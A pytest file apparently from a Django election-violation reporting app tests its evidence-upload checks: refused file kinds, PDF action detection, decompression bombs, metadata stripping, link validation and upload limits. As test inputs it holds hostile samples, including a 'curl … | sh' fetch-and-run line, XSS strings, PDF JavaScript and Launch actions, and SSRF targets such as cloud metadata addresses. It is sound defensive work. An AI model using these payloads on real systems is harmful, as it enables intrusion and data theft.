"""Evidence: refused kinds (with the bytes that trigger them), hashes, stripped copies, links, drafts, upload limits."""

from __future__ import annotations

import datetime as dt
import gzip
import hashlib
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.db import transaction
from django.http import JsonResponse
from django.test import Client
from django.urls import path
from django.utils import timezone
from django.views.decorators.csrf import csrf_exempt
from PIL import Image, PngImagePlugin
from reportlab.pdfgen import canvas

from reports.enums import EvidenceKind, EvidenceSource
from reports.evidence import (
    CheckedLink,
    attach_drafts,
    check_link,
    clean_file_name,
    new_evidence_link,
    store_evidence_file,
    store_evidence_link,
    sweep_orphan_evidence,
)
from reports.evidence_checks import ALLOWED_MEDIA_TYPES, EvidenceRejected, media_type_label
from reports.models import Evidence
from reports.public.uploadhandlers import REQUEST_TOO_BIG, TOO_BIG, TOO_MANY, upload_refusals
from tests.factories import ReportFactory

DRAFT = "draf-uji-0123456789abcdef"
WE_TAKE = "Kirim foto (JPEG, PNG, WebP, HEIC), video (MP4, MOV, WebM, 3GP), atau PDF."
REPRINT = "Cetak ulang sebagai PDF biasa (Cetak → Simpan sebagai PDF), lalu kirim lagi."


@pytest.fixture
def media(db, settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def upload(data: bytes, name: str, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


# --- bytes ---------------------------------------------------------------------------------------------------


def jpeg_with_gps() -> bytes:
    """A 64×32 photo whose EXIF says: rotate 90°, taken in Sleman (GPS), by this camera."""
    image = Image.new("RGB", (64, 32), (200, 30, 30))
    for x in range(32):
        image.putpixel((x, 5), (0, 0, 255))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x010F] = "KameraUji"
    exif[0x8825] = {1: "S", 2: (7.0, 43.0, 12.5), 3: "E", 4: (110.0, 21.0, 30.2)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"lokasi rumah pelapor", quality=95)
    return out.getvalue()


def png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "GPS -7.72, 110.36")
    exif = Image.Exif()
    exif[0x8825] = {1: "S", 2: (7.0, 43.0, 12.5)}
    out = io.BytesIO()
    Image.new("RGBA", (20, 10), (10, 200, 10, 128)).save(out, "PNG", pnginfo=info, exif=exif)
    return out.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_declaring(width: int, height: int) -> bytes:
    """A few dozen bytes of PNG whose header claims width × height RGB pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def reportlab_pdf() -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(72, 720, "Tangkapan layar unggahan kampanye oleh terlapor")
    page.save()
    return out.getvalue()


# EBML header (DocType webm), then a Segment holding an Info element.
WEBM = b"\x1a\x45\xdf\xa3\x8e\x42\x86\x81\x01\x42\x82\x84webm\x42\x87\x81\x04" + (
    b"\x18\x53\x80\x67\x88\x15\x49\xa9\x66\x83\x2a\xd7\xb1"
)
MINIMAL_PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


def pdf_with(catalog_extra: bytes, *objects: bytes) -> bytes:
    """A one-page PDF without a cross-reference table (qpdf rebuilds it, as readers do)."""
    body = b"".join(objects)
    return (
        b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [8 0 R] /Count 1 >>\nendobj\n"
        b"8 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
        + body
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def object_stream(content: bytes, dictionary: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"5 0 obj\n<< " + dictionary + b" /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj\n"


MP4 = (
    b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"  # ftyp: major isom, compatible isom iso2
    + b"\x00\x00\x00\x08free"
    + b"\x00\x00\x00\x10mdat"
    + b"\x00\x01\x02\x03\x04\x05\x06\x07"
)


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("_rels/.rels", "<Relationships/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("foto-kampanye.jpg", jpeg_with_gps())
    return out.getvalue()


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x40\x00\x00\x00" + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
SHEBANG = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>fetch('/admin/').then(r => r.text())</script></body></html>\n"
SVG_PLAIN = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>\n'
)
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>'
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 56
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 56


# --- refusals ------------------------------------------------------------------------------------------------

EXECUTABLE = "isinya program (executable), bukan foto, video, atau PDF."
ARCHIVE = "isinya arsip terkompresi (ZIP, RAR, 7z, gzip, …). Kirim foto, video, atau PDF di dalamnya satu per satu."
HTML_REFUSAL = (
    "isinya halaman web (HTML), yang dapat menjalankan skrip. Kirim tangkapan layarnya sebagai foto, "
    "atau tempelkan tautannya."
)
SVG_REFUSAL = (
    "gambar SVG tidak diterima karena dapat berisi skrip. Kirim gambarnya sebagai JPEG atau PNG "
    "(misalnya tangkapan layar)."
)
PDF_SCRIPT = (
    "PDF ini berisi JavaScript, lampiran berkas lain, atau aksi yang dapat menjalankan program atau mengirim data. "
    + REPRINT
)
PDF_UNCHECKABLE = "isi PDF ini terenkripsi atau dikodekan sehingga tidak dapat diperiksa. " + REPRINT
BOMB = (
    "gambarnya lebih dari 25 megapiksel. Berkas seperti ini dapat dipakai sebagai «bom dekompresi». "
    "Kirim foto dengan resolusi lebih kecil."
)


@pytest.mark.parametrize(
    ("name", "data", "code", "reason"),
    [
        ("foto.jpg", PE, "executable", EXECUTABLE),
        ("foto.jpg", ELF, "executable", EXECUTABLE),
        ("foto.jpg", SHEBANG, "script", "isinya skrip program, bukan foto, video, atau PDF."),
        ("laporan.pdf", HTML, "html", HTML_REFUSAL),
        ("foto.jpg", b"<script>alert(1)</script>", "html", HTML_REFUSAL),
        ("gambar.svg", SVG_PLAIN, "svg", SVG_REFUSAL),
        ("gambar.png", SVG_SCRIPT, "svg", SVG_REFUSAL),
        ("bukti.zip", zip_bytes(), "archive", ARCHIVE),
        ("bukti.jpg", RAR, "archive", ARCHIVE),
        ("bukti.7z", SEVEN_Z, "archive", ARCHIVE),
        ("bukti.pdf", gzip.compress(MINIMAL_PDF), "archive", ARCHIVE),
        (
            "kronologi.docx",
            docx_bytes(),
            "office",
            "dokumen Office (Word, Excel, PowerPoint) tidak diterima. "
            "Simpan atau cetak dokumennya sebagai PDF, lalu kirim PDF-nya.",
        ),
        ("catatan.txt", b"Terlapor hadir di kampanye.\n", "unknown", "jenis isinya tidak dikenali. " + WE_TAKE),
        ("suara.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\x00" * 40, "unsupported", "format MP3 tidak diterima. "),
        ("kosong.jpg", b"", "empty", "berkasnya kosong (0 bita)."),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 20 else "",
)
def test_store_evidence_file_refuses_by_content(media, name, data, code, reason):
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data, name), draft_token=DRAFT)
    expected = f"Berkas «{name}» ditolak: {reason}" + (WE_TAKE if code == "unsupported" else "")
    assert (refused.value.code, refused.value.message) == (code, expected)
    assert Evidence.objects.count() == 0
    assert stored_files(media) == []


@pytest.mark.parametrize(
    "data",
    [
        pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert('hai')) >>"),
        pdf_with(b"/OpenAction 3 0 R", b"3 0 obj\n<< /S /J#61vaScript /JS 4 0 R >>\nendobj\n"),
        pdf_with(b"/AA << /O << /JS (this.print()) >> >>"),
        pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        # The action packed in a compressed object stream, invisible in the raw bytes.
        pdf_with(b"/OpenAction 3 0 R", object_stream(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")),
        pdf_with(
            b"/OpenAction 3 0 R",
            object_stream(b"3 0 << /S /JavaScript >>", b"/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode"),
        ),
    ],
    ids=["openaction-js", "escaped-name", "additional-action-js", "launch", "in-object-stream", "escaped-objstm"],
)
def test_store_evidence_file_refuses_pdf_with_javascript(media, data):
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data, "surat.pdf", "application/pdf"), draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == ("pdf_script", f"Berkas «surat.pdf» ditolak: {PDF_SCRIPT}")
    assert stored_files(media) == []


@pytest.mark.parametrize(
    "data",
    [
        pdf_with(
            b"", object_stream(b"3 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")
        ),
        pdf_with(b"", object_stream(b"3 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Filter 9 0 R")),
        pdf_with(
            b"",
            b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 16 >>\nstream\n"
            + b"\x8f" * 16  # as an encrypted stream looks: not deflate data
            + b"\nendstream\nendobj\n",
        ),
    ],
    ids=["chained-filters", "indirect-filter", "not-deflate"],
)
def test_store_evidence_file_refuses_pdf_object_streams_it_cannot_read(media, data):
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data, "surat.pdf", "application/pdf"), draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == (
        "pdf_uncheckable",
        f"Berkas «surat.pdf» ditolak: {PDF_UNCHECKABLE}",
    )


def test_store_evidence_file_accepts_pdf_whose_binary_stream_happens_to_hold_action_bytes(media):
    # Image data is not PDF syntax: "/JS(" inside it runs nothing and must not get the file refused.
    pixels = b"\x01\x02/JS(\x03/XFA[\x04" * 50
    image = b"3 0 obj\n<< /Type /XObject /Subtype /Image /Length %d >>\nstream\n" % len(pixels)
    data = pdf_with(b"", image + pixels + b"\nendstream\nendobj\n")
    evidence = store_evidence_file(upload(data, "scan.pdf", "application/pdf"), draft_token=DRAFT)
    assert (evidence.media_type, evidence.sha256) == ("application/pdf", hashlib.sha256(data).hexdigest())


@pytest.mark.parametrize(
    ("width", "height"),
    [(30000, 30000), (12000, 12000)],
    ids=["past-pillow-limit", "past-our-limit"],
)
def test_store_evidence_file_refuses_decompression_bomb(media, width, height):
    data = png_declaring(width, height)
    assert len(data) < 100
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data, "peta.png", "image/png"), draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == ("bomb", f"Berkas «peta.png» ditolak: {BOMB}")


def test_store_evidence_file_refuses_file_over_the_limit(media, settings):
    settings.NETRALITAS_EVIDENCE_MAX_FILE_BYTES = 1000
    photo = jpeg_with_gps()
    data = photo + b"\x00" * (2048 - len(photo))
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data, "besar.jpg"), draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == (
        "too_big",
        "Berkas «besar.jpg» ditolak: ukurannya 2,0\xa0KB, melebihi batas 1000\xa0bita per berkas.",
    )
    settings.NETRALITAS_EVIDENCE_MAX_FILE_BYTES = 2048
    assert store_evidence_file(upload(data, "pas.jpg"), draft_token=DRAFT).size == 2048


def test_store_evidence_file_refuses_truncated_jpeg(media):
    data = jpeg_with_gps()
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data[: len(data) * 2 // 3], "foto.jpg"), draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == (
        "corrupt",
        "Berkas «foto.jpg» ditolak: isinya rusak atau tidak lengkap sebagai Foto JPEG. Coba kirim berkas aslinya.",
    )


def test_store_evidence_file_refuses_mp4_whose_last_box_runs_past_the_end(media):
    truncated = MP4[:-8].replace(b"\x00\x00\x00\x10mdat", b"\x00\x01\x00\x00mdat")
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(truncated, "video.mp4", "video/mp4"), draft_token=DRAFT)
    assert refused.value.code == "corrupt"


def test_store_evidence_file_refuses_pdf_without_its_end(media):
    data = reportlab_pdf()
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_file(upload(data[: len(data) // 2], "surat.pdf", "application/pdf"), draft_token=DRAFT)
    assert refused.value.code == "corrupt"


# --- accepted files ------------------------------------------------------------------------------------------


def test_store_evidence_file_keeps_original_and_a_copy_without_exif_or_gps(media, settings):
    data = jpeg_with_gps()
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)  # the fixture really carries GPS

    evidence = store_evidence_file(upload(data, "rahasia-pelapor-budi.jpg", "text/plain"), draft_token=DRAFT)

    evidence.refresh_from_db()
    assert (evidence.kind, evidence.source, evidence.media_type, evidence.size, evidence.original_name) == (
        EvidenceKind.FILE,
        EvidenceSource.INTAKE,
        "image/jpeg",
        len(data),
        "rahasia-pelapor-budi.jpg",
    )
    assert (evidence.report, evidence.draft_token) == (None, DRAFT)
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    original = Path(evidence.file.path)
    assert original.read_bytes() == data
    shared = Image.open(evidence.shared_copy.path)
    assert shared.format == "JPEG"
    assert dict(shared.getexif()) == {}
    assert {"exif", "xmp", "comment"} & set(shared.info) == set()
    assert shared.size == (32, 64)  # orientation applied, then dropped
    # Server-made names under MEDIA_ROOT, nothing of the uploader's name, nowhere near the static files.
    for stored in (original, Path(evidence.shared_copy.path)):
        assert stored.is_relative_to(media)
        assert not stored.is_relative_to(settings.STATIC_ROOT)
        assert not stored.is_relative_to(settings.BASE_DIR / "static")
        assert "rahasia" not in str(stored) and "budi" not in str(stored) and stored.suffix == ""
    assert stored_files(media) == sorted([original, Path(evidence.shared_copy.path)])


@pytest.mark.parametrize("orientation", [1, 6])
def test_the_shared_copy_of_a_jpeg_keeps_its_quantization_and_so_its_quality(media, orientation):
    """Re-encoded with the photo's own tables: no second loss of detail for the evidence, no bigger file."""
    image = Image.effect_noise((160, 120), 60).convert("RGB")  # detail that a coarser table would lose
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x8825] = {1: "S", 2: (7.0, 43.0, 12.5)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=97)
    data = out.getvalue()

    evidence = store_evidence_file(upload(data, "foto.jpg", "image/jpeg"), draft_token=DRAFT)

    shared = Image.open(evidence.shared_copy.path)
    assert shared.quantization == Image.open(io.BytesIO(data)).quantization
    assert dict(shared.getexif()) == {}
    assert shared.size == ((160, 120) if orientation == 1 else (120, 160))


def test_the_shared_copy_of_a_phones_mpo_photo_is_a_plain_jpeg_without_metadata(media):
    """A phone's multi-picture JPEG (MPO): its first picture, re-encoded at quality 90 (no tables to keep)."""
    first, second = Image.new("RGB", (40, 30), (200, 30, 30)), Image.new("RGB", (40, 30), (30, 30, 200))
    exif = Image.Exif()
    exif[0x8825] = {1: "S", 2: (7.0, 43.0, 12.5)}
    out = io.BytesIO()
    first.save(out, "MPO", save_all=True, append_images=[second], exif=exif)
    data = out.getvalue()
    assert Image.open(io.BytesIO(data)).format == "MPO"

    evidence = store_evidence_file(upload(data, "foto.jpg", "image/jpeg"), draft_token=DRAFT)

    shared = Image.open(evidence.shared_copy.path)
    assert (shared.format, shared.size, dict(shared.getexif()), getattr(shared, "n_frames", 1)) == (
        "JPEG",
        (40, 30),
        {},
        1,
    )
    assert shared.convert("RGB").getpixel((20, 15)) == pytest.approx((200, 30, 30), abs=3)


def test_store_evidence_file_png_copy_drops_text_and_exif_but_keeps_transparency(media):
    data = png_with_metadata()
    evidence = store_evidence_file(upload(data, "layar.png", "image/png"), draft_token=DRAFT)
    shared = Image.open(evidence.shared_copy.path)
    assert (evidence.media_type, shared.format, shared.mode, shared.size) == ("image/png", "PNG", "RGBA", (20, 10))
    assert dict(shared.getexif()) == {}
    assert set(shared.info) & {"exif", "Comment"} == set()
    assert shared.getpixel((0, 0)) == (10, 200, 10, 128)
    assert Path(evidence.file.path).read_bytes() == data


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("surat.pdf", reportlab_pdf(), "application/pdf"),
        ("minimal.pdf", MINIMAL_PDF, "application/pdf"),
        ("video.mp4", MP4, "video/mp4"),
        ("video.mov", MP4.replace(b"isomiso2", b"qt  qt  ").replace(b"typisom", b"typqt  "), "video/quicktime"),
        ("video.3gp", MP4.replace(b"isomiso2", b"3gp4isom").replace(b"typisom", b"typ3gp4"), "video/3gpp"),
        ("foto.heic", MP4.replace(b"isomiso2", b"mif1heic").replace(b"typisom", b"typheic"), "image/heic"),
        ("video.webm", WEBM, "video/webm"),
    ],
)
def test_store_evidence_file_accepts_pdf_and_video_as_sent(media, name, data, media_type):
    evidence = store_evidence_file(upload(data, name, "application/octet-stream"), draft_token=DRAFT)
    assert (evidence.media_type, evidence.size, evidence.sha256) == (
        media_type,
        len(data),
        hashlib.sha256(data).hexdigest(),
    )
    assert Path(evidence.file.path).read_bytes() == data
    # Issue 8: a PDF gets a copy rewritten without metadata (reports.cleaning); video and HEIC cannot be
    # cleaned, so they get none. (Issue 10's fixtures are one-page PDFs: every PDF here can be cleaned.)
    assert bool(evidence.shared_copy) == (media_type == "application/pdf")
    assert media_type in ALLOWED_MEDIA_TYPES


def test_store_evidence_file_attaches_to_a_report(media, reference_data):
    report = ReportFactory()
    data = png_with_metadata()
    evidence = store_evidence_file(
        upload(data, "layar.png"), report=report, draft_token="ignored", source=EvidenceSource.COMPLETION
    )
    assert (evidence.report, evidence.draft_token, evidence.source) == (report, "", EvidenceSource.COMPLETION)


def test_store_evidence_file_needs_a_report_or_a_draft(media):
    with pytest.raises(ValueError, match="report or a draft_token"):
        store_evidence_file(upload(MINIMAL_PDF, "x.pdf"))


def test_clean_file_name_keeps_the_base_name_without_control_or_direction_characters():
    assert clean_file_name("C:\\Users\\budi\\foto\u202egpj.exe") == "fotogpj.exe"
    assert clean_file_name("../../etc/pass\x00wd\r\n") == "passwd"
    assert clean_file_name("a" * 300 + ".jpg") == "a" * 255


def test_media_type_label_names_each_allowed_type():
    assert [media_type_label(t) for t in ("image/jpeg", "video/quicktime", "application/pdf", "text/html")] == [
        "Foto JPEG",
        "Video MOV",
        "Dokumen PDF",
        "Berkas",
    ]


# --- links ---------------------------------------------------------------------------------------------------


def test_store_evidence_link_keeps_a_public_https_link(db):
    url = "  https://www.instagram.com/p/C0ntoh123/?igsh=abc  "
    evidence = store_evidence_link(url, draft_token=DRAFT)
    evidence.refresh_from_db()
    assert (evidence.kind, evidence.url, evidence.sha256, evidence.draft_token) == (
        EvidenceKind.LINK,
        "https://www.instagram.com/p/C0ntoh123/?igsh=abc",
        "",
        DRAFT,
    )


def test_a_link_is_checked_again_unless_check_link_returned_it(db, monkeypatch):
    from reports import evidence

    checked = check_link("  https://www.instagram.com/p/abc123/ ")
    assert (type(checked), checked) == (CheckedLink, "https://www.instagram.com/p/abc123/")
    calls = []
    monkeypatch.setattr(evidence, "check_link", lambda url: calls.append(url) or check_link(url))
    link = new_evidence_link(checked, draft_token=DRAFT)
    assert (link.pk, type(link.url), link.url, calls) == (None, str, "https://www.instagram.com/p/abc123/", [])
    # Anything else is checked: a plain str, and a CheckedLink changed since (its methods return a plain str).
    for url in ("http://192.168.1.1/", (checked + " ").replace("www.instagram.com", "192.168.1.1")):
        with pytest.raises(EvidenceRejected):
            new_evidence_link(url, draft_token=DRAFT)
    assert calls == ["http://192.168.1.1/", "https://192.168.1.1/p/abc123/ "]


SCHEME = ("link_scheme", "hanya alamat yang diawali http:// atau https:// yang diterima.")
CREDENTIALS = ("link_credentials", "alamat yang memuat nama pengguna atau kata sandi tidak diterima.")
PRIVATE = ("link_private", "alamatnya menunjuk ke jaringan lokal atau pribadi, bukan situs publik.")
INVALID = ("link_invalid", "alamatnya tidak sah.")


@pytest.mark.parametrize(
    ("url", "refusal"),
    [
        ("javascript:alert(1)", SCHEME),
        ("data:text/html,<script>alert(1)</script>", SCHEME),
        ("file:///etc/passwd", SCHEME),
        ("ftp://example.org/x", SCHEME),
        ("https://budi:rahasia@example.org/", CREDENTIALS),
        ("http://127.0.0.1:8000/admin/", PRIVATE),
        ("http://192.168.1.1/", PRIVATE),
        ("http://[::1]/", PRIVATE),
        ("http://169.254.169.254/latest/meta-data/", PRIVATE),
        ("http://localhost/", PRIVATE),
        ("http://intranet/", PRIVATE),
        ("https://example.org/a b", INVALID),
        ("https://exa_mple..org/", INVALID),
        ("https://example.org/a\tb", INVALID),
        ("https://example.org/a\x7fb", INVALID),  # a control character (ASCII, not printable)
        ("https://example.org/a\u200bb", INVALID),  # a zero-width space (format, Cf)
        ("https://example.org/a\u00a0b", INVALID),  # a no-break space
    ],
)
def test_store_evidence_link_refuses(db, url, refusal):
    code, reason = refusal
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_link(url, draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == (code, f"Tautan «{url}» ditolak: {reason}")
    assert Evidence.objects.count() == 0


def test_a_link_with_letters_beyond_ascii_is_kept(db):
    url = "https://id.wikipedia.org/wiki/Pemilihan_umum_Bupati_Sleman_2024#Kampanye_–_pelanggaran"
    assert store_evidence_link(url, draft_token=DRAFT).url == url


def test_store_evidence_link_refuses_over_1000_characters(db):
    url = "https://example.org/" + "a" * 981
    with pytest.raises(EvidenceRejected) as refused:
        store_evidence_link(url, draft_token=DRAFT)
    assert (refused.value.code, refused.value.message) == (
        "link_too_long",
        "Tautan ditolak: panjangnya melebihi 1000 karakter.",
    )
    assert store_evidence_link(url[:-1], draft_token=DRAFT).url == url[:-1]


# --- drafts --------------------------------------------------------------------------------------------------


def test_attach_drafts_moves_only_that_token(media, reference_data):
    mine = store_evidence_link("https://example.org/1", draft_token=DRAFT)
    other = store_evidence_link("https://example.org/2", draft_token="draf-lain")
    report = ReportFactory()
    assert attach_drafts(DRAFT, report) == 1
    assert attach_drafts("", report) == 0
    assert list(report.evidence.all()) == [mine]
    other.refresh_from_db()
    assert (other.report, other.draft_token) == (None, "draf-lain")


def test_files_of_a_rolled_back_submission_are_swept(media):
    with pytest.raises(RuntimeError), transaction.atomic():
        evidence = store_evidence_file(upload(jpeg_with_gps(), "a.jpg"), draft_token=DRAFT)
        raise RuntimeError("the rest of the submission failed")
    left = [Path(evidence.file.path), Path(evidence.shared_copy.path)]
    assert (Evidence.objects.count(), stored_files(media)) == (0, sorted(left))
    assert sweep_orphan_evidence(older_than=dt.timedelta(hours=24)) == 0
    assert stored_files(media) == sorted(left)  # too recent: a transaction might still be running
    assert sweep_orphan_evidence(older_than=dt.timedelta(0)) == 0
    assert stored_files(media) == []


def test_sweep_orphan_evidence_deletes_old_drafts_and_files_no_row_names(media, reference_data):
    old_draft = store_evidence_file(upload(jpeg_with_gps(), "a.jpg"), draft_token=DRAFT)
    fresh_draft = store_evidence_file(upload(MINIMAL_PDF, "b.pdf"), draft_token=DRAFT)
    attached = store_evidence_file(upload(MINIMAL_PDF, "c.pdf"), report=ReportFactory())
    day_ago = timezone.now() - dt.timedelta(hours=25)
    Evidence.objects.filter(pk__in=[old_draft.pk, attached.pk]).update(uploaded_at=day_ago)
    old_files = [Path(old_draft.file.path), Path(old_draft.shared_copy.path)]
    # A file whose row was rolled back, and one just written by a transaction still running.
    stray_old = media / "evidence" / "2020" / "01" / "0123456789abcdef0123456789abcdef"
    stray_new = media / "evidence" / "2020" / "01" / "fedcba9876543210fedcba9876543210"
    stray_old.parent.mkdir(parents=True)
    for stray in (stray_old, stray_new):
        stray.write_bytes(b"x")
    os.utime(stray_old, (day_ago.timestamp(), day_ago.timestamp()))
    os.utime(Path(attached.file.path), (day_ago.timestamp(), day_ago.timestamp()))

    assert sweep_orphan_evidence() == 1

    assert list(Evidence.objects.order_by("pk")) == [fresh_draft, attached]
    assert [f.exists() for f in old_files] == [False, False]
    assert (stray_old.exists(), stray_new.exists()) == (False, True)
    assert Path(attached.file.path).exists() and Path(fresh_draft.file.path).exists()


# --- limits while streaming ----------------------------------------------------------------------------------


class SpoolSpy(TemporaryFileUploadHandler):
    """Django's temporary-file handler, noting how many bytes each file got on disk."""

    spooled: list[int] = []

    def receive_data_chunk(self, raw_data, start):
        written = super().receive_data_chunk(raw_data, start)
        if start == 0:
            self.spooled.append(0)
        self.spooled[-1] = start + len(raw_data)
        return written


def _upload_view(request):
    return JsonResponse(
        {
            # Reading each kept file proves skipping another did not close it.
            "files": [[f.name, hashlib.sha256(f.read()).hexdigest()] for f in request.FILES.getlist("bukti")],
            "refusals": [[r.field, r.filename, r.reason, r.message] for r in upload_refusals(request)],
            "fields": request.POST.dict(),
        }
    )


urlpatterns = [path("unggah/", csrf_exempt(_upload_view))]
MB = 1024 * 1024


@pytest.fixture
def spool(settings, tmp_path) -> Path:
    spool = tmp_path / "spool"
    spool.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(spool)
    settings.FILE_UPLOAD_HANDLERS = [
        "reports.public.uploadhandlers.LimitedUploadHandler",
        "django.core.files.uploadhandler.MemoryFileUploadHandler",
        "tests.test_evidence.SpoolSpy",
    ]
    SpoolSpy.spooled = []
    return spool


@pytest.mark.urls("tests.test_evidence")
def test_upload_handler_skips_a_50_mb_file_without_spooling_it_and_keeps_the_rest(spool, settings):
    assert settings.NETRALITAS_EVIDENCE_MAX_FILE_BYTES == 25 * MB
    big = SimpleUploadedFile("video-panjang.mp4", b"\x00" * (50 * MB), content_type="video/mp4")
    small = SimpleUploadedFile("foto.jpg", jpeg_with_gps(), content_type="image/jpeg")

    response = Client().post("/unggah/", {"sebelum": "uraian kejadian", "bukti": [big, small], "sesudah": "saksi: Ani"})

    assert response.json() == {
        "files": [["foto.jpg", hashlib.sha256(jpeg_with_gps()).hexdigest()]],
        "refusals": [
            [
                "bukti",
                "video-panjang.mp4",
                TOO_BIG,
                "Berkas «video-panjang.mp4» ditolak: ukurannya melebihi batas 25,0\xa0MB per berkas.",
            ]
        ],
        "fields": {"sebelum": "uraian kejadian", "sesudah": "saksi: Ani"},
    }
    # The refused file got no byte past the limit on disk, and what it got is gone; the kept one was spooled whole.
    assert 24 * MB < SpoolSpy.spooled[0] <= 25 * MB
    assert SpoolSpy.spooled[1:] == [len(jpeg_with_gps())]
    assert list(spool.iterdir()) == []


@pytest.mark.urls("tests.test_evidence")
def test_upload_handler_refuses_files_past_the_request_total_and_the_count(spool, settings):
    settings.NETRALITAS_EVIDENCE_MAX_FILES = 4
    settings.NETRALITAS_EVIDENCE_MAX_REQUEST_BYTES = 5 * MB
    settings.NETRALITAS_EVIDENCE_MAX_FILE_BYTES = 3 * MB
    contents = [b"1" * (2 * MB), b"2" * (2 * MB), b"3" * (2 * MB), b"4" * 1000, b"5" * 1000]
    names = ["satu.pdf", "dua.pdf", "tiga.pdf", "empat.pdf", "lima.pdf"]
    files = [SimpleUploadedFile(name, content) for name, content in zip(names, contents, strict=True)]

    response = Client().post("/unggah/", {"bukti": files, "catatan": "tetap ada"})

    body = response.json()
    # tiga.pdf would bring the total to 6 MB; empat.pdf still fits; lima.pdf is the fifth file.
    assert body["files"] == [[names[i], hashlib.sha256(contents[i]).hexdigest()] for i in (0, 1, 3)]
    assert body["refusals"] == [
        [
            "bukti",
            "tiga.pdf",
            REQUEST_TOO_BIG,
            "Berkas «tiga.pdf» ditolak: ukuran semua berkas melebihi batas 5,0\xa0MB sekali kirim. "
            "Kirim berkas ini terpisah.",
        ],
        ["bukti", "lima.pdf", TOO_MANY, "Berkas «lima.pdf» ditolak: paling banyak 4 berkas sekali kirim."],
    ]
    assert body["fields"] == {"catatan": "tetap ada"}
    assert SpoolSpy.spooled == [2 * MB, 2 * MB, SpoolSpy.spooled[2], 1000]  # lima.pdf never reached the disk
